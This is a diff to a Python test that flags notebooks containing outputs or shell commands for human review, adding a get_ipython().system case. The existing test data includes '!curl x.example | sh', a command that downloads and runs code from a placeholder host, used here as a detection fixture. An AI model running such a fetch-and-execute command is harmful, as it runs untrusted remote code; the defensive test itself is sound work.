@@ -113,6 +113,7 @@ def test_a_notebook_without_outputs_is_clean() -> None:
         notebook(outputs=[{"output_type": "stream", "name": "stdout", "text": ["2"]}]),
         notebook("!curl x.example | sh"),
         notebook("%%bash\ntrue"),
+        notebook("get_ipython().system('true')"),
     ],
 )
 def test_a_notebook_with_outputs_or_commands_waits_for_a_person(text: str) -> None:
